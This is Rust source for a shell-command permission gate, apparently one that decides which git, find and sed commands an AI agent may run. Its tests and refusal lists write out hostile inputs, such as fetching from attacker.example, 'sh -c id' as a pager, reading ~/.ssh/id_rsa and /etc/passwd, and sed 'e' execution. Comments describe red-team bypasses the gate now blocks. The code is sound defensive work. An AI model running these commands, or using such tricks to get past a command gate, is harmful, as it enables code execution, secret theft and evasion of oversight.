                "-i, --ignore-case",
                "--abbrev[=NUM]",
                "--no-abbrev",
                "--omit-empty",
            ],
            operands: "",
            alternatives: &[("list", "PATTERN...")],
            matches: &[
                "git branch",
                "git branch -a",
                "git branch --color=never",
                "git branch -a --contains HEAD",
                "git branch -vv",
            ],
            not_matches: &["git branch -D main", "git branch evil", "git branch -f main HEAD~3"],
            ..entry("safe.git-branch", &["git"])
        },
    },
    GitSubcommand {
        names: &["tag"],
        entry: SafeEntry {
            options: &[
                "-l, --list",
                "-n[NUM]",
                "--sort=TEXT",
                "--contains=TEXT",
                "--no-contains=TEXT",
                "--merged=TEXT",
                "--no-merged=TEXT",
                "--points-at=TEXT",
                "--format=TEXT",
                "--column[=TEXT]",
                "--no-column",
                "-i, --ignore-case",
                "--color[=TEXT]",
                "--omit-empty",
            ],
            operands: "",
            alternatives: &[("list", "PATTERN...")],
            matches: &["git tag", "git tag -l 'v*'"],
            not_matches: &["git tag v1.0", "git tag -d v1"],
            ..entry("safe.git-tag", &["git"])
        },
    },
    GitSubcommand {
        names: &["remote"],
        entry: SafeEntry {
            style: Style::Posix,
            // Remote URLs can carry tokens (`https://x-access-token:…@host`), as `remote.*.url`
            // does for `git config`: only the names are listed, not `-v` or `get-url`.
            options: &[],
            operands: "TEXT...",
            check: Some(git_remote_check),
            matches: &["git remote"],
            not_matches: &[
                "git remote add x https://x",
                "git remote show origin",
                "git remote -v",
                "git remote get-url origin",
            ],
            ..entry("safe.git-remote", &["git"])
        },
    },
    GitSubcommand {
        names: &["stash"],
        entry: SafeEntry {
            options: GIT_LOG_OPTIONS,
            operands: "TEXT...",
            numeric_option: true,
            check: Some(git_stash_read_check),
            matches: &["git stash list", "git stash show -p"],
            not_matches: &["git stash drop", "git stash pop", "git stash --all -- list .", "git stash -u show"],
            ..entry("safe.git-stash-read", &["git"])
        },
    },
    GitSubcommand {
        names: &["worktree"],
        entry: SafeEntry {
            style: Style::Posix,
            options: &[],
            operands: "TEXT...",
            check: Some(git_worktree_check),
            matches: &["git worktree list"],
            not_matches: &["git worktree add ../x"],
            ..entry("safe.git-worktree", &["git"])
        },
    },
    GitSubcommand {
        names: &["reflog"],
        entry: SafeEntry {
            options: GIT_LOG_OPTIONS,
            // Any word may be a pathspec (`git reflog -p -- .env`): judged as reads.
            operands: "READ...",
            numeric_option: true,
            check: Some(git_reflog_check),
            matches: &["git reflog", "git reflog show -5"],
            not_matches: &["git reflog expire --all", "git reflog delete HEAD@{1}", "git reflog -p -- .env"],
            ..entry("safe.git-reflog", &["git"])
        },
    },
    GitSubcommand {
        names: &["config"],
        entry: SafeEntry {
            options: &[
                "--get",
                "--get-all",
                "--get-regexp",
                "-l, --list",
                "--show-origin",
                "--show-scope",
                "-z, --null",
                "--name-only",
                "--includes",
                "--no-includes",
                "--local",
                "--worktree",
                "--type=TEXT",
                "--bool",
                "--int",
                "--path",
                "--default=TEXT",
            ],
            operands: "TEXT...",
            check: Some(git_config_check),
            matches: &["git config user.name", "git config --get user.email"],
            not_matches: &[
                "git config core.pager 'sh -c id'",
                "git config --add x y",
                "git config edit",
                "git config --global --edit",
                "git config --list",
                "git config --global url.https://x.insteadof",
                "git config --get remote.origin.url",
            ],
            ..entry("safe.git-config-read", &["git"])
        },
    },
    GitSubcommand {
        names: &["add"],
        entry: SafeEntry {
            tier: Tier::Medium,
            options: &[
                "-v, --verbose",
                "-n, --dry-run",
                "-u, --update",
                "--no-all, --ignore-removal",
                "-N, --intent-to-add",
                "--refresh",
                "--ignore-errors",
                "--ignore-missing",
                "--renormalize",
                "--sparse",
            ],
            operands: "READ...",
            check: Some(git_add_check),
            matches: &["git add src/lib.rs", "git add -u", "git add src/a.rs tests/b.rs"],
            not_matches: &[
                "git add -f target",
                "git add --chmod=+x x",
                "git add -p",
                "git add -A",
                "git add .",
                "git add src/",
                "git add --all",
            ],
            ..entry("write.git-add", &["git"])
        },
    },
    GitSubcommand {
        names: &["fetch"],
        entry: SafeEntry {
            // Updates remote-tracking refs only: no local branch or file changes.
            tier: Tier::Medium,
            options: &[
                "-q, --quiet",
                "-v, --verbose",
                "--all",
                "-p, --prune",
                "-t, --tags",
                "-n, --no-tags",
                "--dry-run",
                "--no-recurse-submodules",
            ],
            operands: "TEXT?",
            check: Some(git_fetch_check),
            matches: &["git fetch origin", "git fetch --prune", "git fetch --all -q"],
            not_matches: &[
                "git fetch https://attacker.example/x",
                "git fetch attacker.example:repo",
                "git fetch ../other",
                "git fetch origin main:main",
                "git fetch --upload-pack=sh origin",
                "git fetch --recurse-submodules origin",
            ],
            // `reference-transaction`, and `pre-auto-gc` when it packs.
            runs_repository_hooks: true,
            ..entry("write.git-fetch", &["git"])
        },
    },
    GitSubcommand {
        names: &["commit"],
        entry: SafeEntry {
            tier: Tier::Medium,
            options: &[
                "-m, --message=TEXT",
                "-a, --all",
                "-q, --quiet",
                "-v, --verbose",
                "-s, --signoff",
                "--no-signoff",
                "--allow-empty",
                "--allow-empty-message",
                "-F, --file=READ",
                "--author=TEXT",
                "--date=TEXT",
                "--cleanup=TEXT",
                "--status",
                "--no-status",
                "--trailer=TEXT",
                "-o, --only",
                "-i, --include",
                "--dry-run",
                "--short",
                "--porcelain",
                "--long",
                "-z, --null",
                "-u, --untracked-files[=TEXT]",
                "--no-edit",
            ],
            operands: "READ...",
            matches: &["git commit -m 'fix parser'", "git commit -am x"],
            not_matches: &[
                "git commit --no-verify -m x",
                "git commit -n -m x",
                "git commit --amend",
                "git commit --no-ver -m x",
            ],
            runs_repository_hooks: true,
            ..entry("write.git-commit", &["git"])
        },
    },
    GitSubcommand {
        names: &["stash"],
        entry: SafeEntry {
            tier: Tier::Medium,
            options: &["-m, --message=TEXT", "-k, --keep-index", "--no-keep-index", "-q, --quiet", "-S, --staged"],
            operands: "TEXT...",
            check: Some(git_stash_push_check),
            matches: &["git stash", "git stash push -m wip"],
            not_matches: &["git stash clear", "git stash -a", "git stash -u", "git stash push --include-untracked"],
            runs_repository_hooks: true,
            ..entry("write.git-stash", &["git"])
        },
    },
    GitSubcommand {
        names: &["switch"],
        entry: SafeEntry {
            tier: Tier::Medium,
            options: &["-c, --create=TEXT", "-q, --quiet", "--track[=TEXT]", "--no-track", "-t"],
            operands: "TEXT?",
            check: Some(git_create_branch_check),
            matches: &["git switch -c feature/x"],
            not_matches: &[
                "git switch -f main",
                "git switch --discard-changes main",
                "git switch main",
                "git switch -c review origin/pr-42",
            ],
            runs_repository_hooks: true,
            ..entry("write.git-switch", &["git"])
        },
    },
    GitSubcommand {
        names: &["checkout"],
        entry: SafeEntry {
            tier: Tier::Medium,
            options: &["-b TEXT", "-q, --quiet", "--track[=TEXT]", "--no-track", "-t"],
            operands: "TEXT?",
            check: Some(git_create_branch_check),
            matches: &["git checkout -b feature/gate-tests"],
            not_matches: &[
                "git checkout -- .",
                "git checkout -f main",
                "git checkout -B x",
                "git checkout -b x origin/pr-42",
            ],
            runs_repository_hooks: true,
            ..entry("write.git-checkout", &["git"])
        },
    },
    GitSubcommand {
        names: &["restore"],
        entry: SafeEntry {
            tier: Tier::Medium,
            options: &["-S, --staged", "-q, --quiet"],
            operands: "READ...",
            check: Some(git_restore_check),
            matches: &["git restore --staged src/lib.rs"],
            not_matches: &["git restore src/lib.rs", "git restore -W --staged x"],
            ..entry("write.git-restore", &["git"])
        },
    },
    GitSubcommand {
        names: &["rm"],
        entry: SafeEntry {
            // Without `-f`, git refuses to remove a file whose content differs from HEAD or
            // the index, so what it deletes is tracked and committed: recoverable.
            tier: Tier::Medium,
            options: &["-r", "--cached", "-q, --quiet", "-n, --dry-run", "--ignore-unmatch", "--sparse"],
            operands: "WRITE...",
            matches: &["git rm scripts/old_migrate.sh", "git rm -r --cached build"],
            not_matches: &["git rm -f src/lib.rs", "git rm --force x", "git rm .claude/settings.json", "git rm '*.rs'"],
            ..entry("write.git-rm", &["git"])
        },
    },
    GitSubcommand {
        names: &["init"],
        entry: SafeEntry {
            tier: Tier::Medium,
            options: &["-q, --quiet", "-b, --initial-branch=TEXT", "--object-format=TEXT"],
            operands: "WRITE?",
            matches: &["git init", "git init -b main sub"],
            not_matches: &["git init --template=x", "git init --separate-git-dir=/tmp/x", "git init --bare x"],
            ..entry("write.git-init", &["git"])
        },
    },
];

/// What git's command line is: the subcommand's entry and its parse, or a refusal.
pub fn judge_git(args: &[String]) -> Judgement {
    static GLOBAL: LazyLock<Option<Grammar>> =
        LazyLock::new(|| Grammar::new(Style::Posix, GIT_GLOBAL_OPTIONS, "TEXT...").ok());
    static COMPILED: LazyLock<Vec<(&'static GitSubcommand, Grammar)>> = LazyLock::new(|| {
        GIT_SUBCOMMANDS.iter().filter_map(|sub| compile(&sub.entry).ok().map(|grammar| (sub, grammar))).collect()
    });
    let first = &GIT_SUBCOMMANDS[0].entry;
    let Some(global) = GLOBAL.as_ref() else {
        return Judgement::Refused { entry: first, reason: "git's global grammar failed to compile".to_owned() };
    };
    let parsed = match global.parse(args) {
        Ok(parsed) => parsed,
        Err(error) => return Judgement::Refused { entry: first, reason: format!("uses git {error}") },
    };
    let Some(&(subcommand_index, _)) = parsed.operands.first() else {
        return Judgement::Refused { entry: first, reason: "names no git subcommand".to_owned() };
    };
    let subcommand = args[subcommand_index].as_str();
    let rest = &args[subcommand_index + 1..];
    // Format placeholders and sort keys that verify signatures (`%G?`, `%GS`, `%(signature…)`,
    // `%(*signature)` through a tag, `--sort=signature`, `--sort=-*signature`) run gpg, or the
    // program `gpg.program` names, as `--show-signature` does (red-team round 43). Any word
    // that is not a file name and mentions a signature is refused.
    let mentions_signature = |word: &str| {
        let lower = word.to_ascii_lowercase();
        lower.contains("signature") && (lower.contains("%(") || !lower.contains(['/', '.']))
    };
    if let Some(word) = rest.iter().find(|word| word.contains("%G") || mentions_signature(word)) {
        return Judgement::Refused {
            entry: first,
            reason: format!("uses the format `{word}`, whose signature placeholders run gpg"),
        };
    }
    let mut refusal = None;
    for (sub, grammar) in COMPILED.iter() {
        if !sub.names.contains(&subcommand) {
            continue;
        }
        let entry = &sub.entry;
        match grammar.parse(rest) {
            Ok(mut sub_parsed) => {
                if let Some(check) = entry.check
                    && let Err(reason) = check(&sub_parsed, grammar, rest)
                {
                    refusal.get_or_insert(Judgement::Refused { entry, reason });
                    continue;
                }
                let tier = if sub_parsed.writes() { entry.tier.max(Tier::Medium) } else { entry.tier };
                // Word indexes are shifted to count from git's first argument.
                let offset = subcommand_index + 1;
                for given in &mut sub_parsed.options {
                    given.word += offset;
                }
                for (word, _) in &mut sub_parsed.operands {
                    *word += offset;
                }
                let mut slots = vec![None; offset];
                slots.append(&mut sub_parsed.slots);
                sub_parsed.slots = slots;
                return Judgement::Known { entry, grammar, parsed: sub_parsed, alternates: Vec::new(), tier };
            }
            Err(error) => {
                refusal.get_or_insert(Judgement::Refused { entry, reason: describe(&error) });
            }
        }
    }
    // A subcommand no entry names (`push`, `fetch`, an alias) is simply not on the list.
    refusal.unwrap_or(Judgement::Unlisted)
}

/// find's expression primaries: `(name, value role)`. Left out: `-exec`, `-execdir`, `-ok`,
/// `-okdir` (run programs), `-delete`, `-fprint`, `-fprint0`, `-fprintf`, `-fls` (write).
const FIND_PRIMARIES: &[(&str, Option<Role>)] = &[
    ("-print", None),
    ("-print0", None),
    ("-ls", None),
    ("-prune", None),
    ("-empty", None),
    ("-readable", None),
    ("-writable", None),
    ("-executable", None),
    ("-true", None),
    ("-false", None),
    ("-not", None),
    ("!", None),
    ("-a", None),
    ("-o", None),
    ("-and", None),
    ("-or", None),
    ("(", None),
    (")", None),
    (",", None),
    ("-depth", None),
    ("-follow", None),
    ("-xdev", None),
    ("-mount", None),
    ("-noleaf", None),
    ("-quit", None),
    ("-nouser", None),
    ("-nogroup", None),
    ("-daystart", None),
    ("-ignore_readdir_race", None),
    ("-noignore_readdir_race", None),
    ("-nowarn", None),
    ("-warn", None),
    ("-name", Some(Role::Pattern)),
    ("-iname", Some(Role::Pattern)),
    ("-path", Some(Role::Pattern)),
    ("-ipath", Some(Role::Pattern)),
    ("-wholename", Some(Role::Pattern)),
    ("-iwholename", Some(Role::Pattern)),
    ("-regex", Some(Role::Pattern)),
    ("-iregex", Some(Role::Pattern)),
    ("-lname", Some(Role::Pattern)),
    ("-ilname", Some(Role::Pattern)),
    ("-regextype", Some(Role::Text)),
    ("-type", Some(Role::Text)),
    ("-xtype", Some(Role::Text)),
    ("-maxdepth", Some(Role::Text)),
    ("-mindepth", Some(Role::Text)),
    ("-mtime", Some(Role::Text)),
    ("-mmin", Some(Role::Text)),
    ("-atime", Some(Role::Text)),
    ("-amin", Some(Role::Text)),
    ("-ctime", Some(Role::Text)),
    ("-cmin", Some(Role::Text)),
    ("-used", Some(Role::Text)),
    ("-size", Some(Role::Text)),
    ("-perm", Some(Role::Text)),
    ("-user", Some(Role::Text)),
    ("-group", Some(Role::Text)),
    ("-uid", Some(Role::Text)),
    ("-gid", Some(Role::Text)),
    ("-links", Some(Role::Text)),
    ("-inum", Some(Role::Text)),
    ("-fstype", Some(Role::Text)),
    ("-printf", Some(Role::Text)),
    ("-newermt", Some(Role::Date)),
    ("-newer", Some(Role::Read)),
    ("-anewer", Some(Role::Read)),
    ("-cnewer", Some(Role::Read)),
    ("-samefile", Some(Role::Read)),
];

pub static FIND_ENTRY: SafeEntry = SafeEntry {
    operands: "READ...",
    matches: &[
        "find . -name '*.rs' -type f",
        "find src -maxdepth 2",
        "find . -newer Cargo.toml -name '*.rs'",
        "find src -newermt '2024-01-01 10:00' -type f",
        "find . -name '*.orig' -print",
    ],
    not_matches: &[
        "find . -name '*.o' -delete",
        "find . -exec rm {} \\;",
        "find / -name x",
        "find . -fprint /tmp/x",
        "find . -name *.rs",
        "find . -newer ~/.ssh/id_rsa",
        "find . -newermt 'TZ=\"/dev/tty\" now'",
    ],
    ..entry("safe.find", &["find"])
};

/// find: leading `-H`/`-L`/`-P`, start paths (read), then an expression of declared primaries.
fn judge_find(args: &[String]) -> Judgement {
    static GRAMMAR: LazyLock<Grammar> = LazyLock::new(|| Grammar {
        style: Style::NoOptions,
        options: Vec::new(),
        operands: Operands { repeated: Some(Role::Read), ..Operands::default() },
        alternatives: Vec::new(),
        numeric_option: false,
        cluster_values_follow: false,
    });
    let mut parsed =
        Parsed { slots: vec![None; args.len()], grammar_operands: GRAMMAR.operands.clone(), ..Parsed::default() };
    let mut index = 0;
    while args.get(index).is_some_and(|arg| matches!(arg.as_str(), "-H" | "-L" | "-P")) {
        parsed.slots[index] = Some(crate::gate::argspec::Slot::Option { option: 0 });
        index += 1;
    }
    let is_expression = |arg: &str| arg.starts_with('-') || matches!(arg, "!" | "(" | ")" | ",");
    while let Some(arg) = args.get(index).filter(|arg| !is_expression(arg)) {
        let position = parsed.operands.len();
        parsed.operands.push((index, Role::Read));
        parsed.slots[index] = Some(crate::gate::argspec::Slot::Operand { role: Role::Read, index: position });
        let _ = arg;
        index += 1;
    }
    while let Some(arg) = args.get(index) {
        let Some((_, role)) = FIND_PRIMARIES.iter().find(|(name, _)| *name == arg.as_str()) else {
            return Judgement::Refused {
                entry: &FIND_ENTRY,
                reason: format!("uses the expression `{arg}`, which is not declared for it"),
            };
        };
        parsed.slots[index] = Some(crate::gate::argspec::Slot::Option { option: 0 });
        let mut given =
            crate::gate::argspec::GivenOption { option: 0, word: index, values: Vec::new(), attached: false };
        index += 1;
        if let Some(role) = role {
            let Some(value) = args.get(index) else {
                return Judgement::Refused { entry: &FIND_ENTRY, reason: format!("uses `{arg}` without its value") };
            };
            if let Some(refusal) = crate::gate::argspec::value_refusal(value, *role, || arg.clone()) {
                return Judgement::Refused { entry: &FIND_ENTRY, reason: describe(&refusal) };
            }
            parsed.slots[index] = Some(crate::gate::argspec::Slot::Value { option: 0, role: *role });
            given.values.push((value.clone(), *role));
            index += 1;
        }
        parsed.options.push(given);
    }
    Judgement::Known { entry: &FIND_ENTRY, grammar: &GRAMMAR, parsed, alternates: Vec::new(), tier: Tier::Low }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn find_expressions() {
        let args = |text: &str| text.split_whitespace().map(str::to_owned).collect::<Vec<_>>();
        assert!(matches!(judge_find(&args(". -name x -type f -print0")), Judgement::Known { .. }));
        assert!(matches!(judge_find(&args("-L src tests -maxdepth 2")), Judgement::Known { .. }));
        for refused in [". -delete", ". -exec rm {} ;", ". -name", ". -fls out", ". -execdir sh -c x ;"] {
            assert!(matches!(judge_find(&args(refused)), Judgement::Refused { .. }), "{refused}");
        }
    }

    #[test]
    fn every_grammar_compiles() {
        for entry in SAFE_COMMANDS.iter().chain(GIT_SUBCOMMANDS.iter().map(|sub| &sub.entry)) {
            let gnu = compile(entry).unwrap_or_else(|error| panic!("{error}"));
            compile_bsd(entry, &gnu).unwrap_or_else(|error| panic!("{error}"));
        }
        Grammar::new(Style::Posix, GIT_GLOBAL_OPTIONS, "TEXT...").unwrap();
    }

    #[test]
    fn sed_scripts() {
        for safe in [
            "1,20p",
            "s/a/b/g",
            "/^#/d",
            "$p",
            "s|x|y|",
            "10q",
            "/fn classify/,/^}/p",
            "/a\\/b/p",
            "s/a\\/b/c/",
            "s/[a-z]/X/g",
            "s/[^ ]*//",
            "1d;s/x/y/ ; p",
            "s/a/b/2\n$d",
            "/x/!d",
        ] {
            assert!(sed_script_is_safe(safe), "{safe}");
        }
        for unsafe_script in [
            "1e id",
            "s/a/b/e",
            "w out",
            "s/a/b/w out",
            "r /etc/passwd",
            "1!e x",
            "/x/,/y/e id",
            "/unterminated",
            "s/a\\/b/c/w x",
            // A delimiter inside a bracket expression is a member (red team round 27).
            "s/[/]/;/e#/p",
            "s/[]/]/e",
            "s/[[:alpha:]]/x/e",
            "/[/]/e id",
            "s/a/b/ e",
            "p p",
            "s\\a\\b\\",
            "s/a\\\nb/c/",
            "{p}",
        ] {
            assert!(!sed_script_is_safe(unsafe_script), "{unsafe_script}");
        }
    }
}
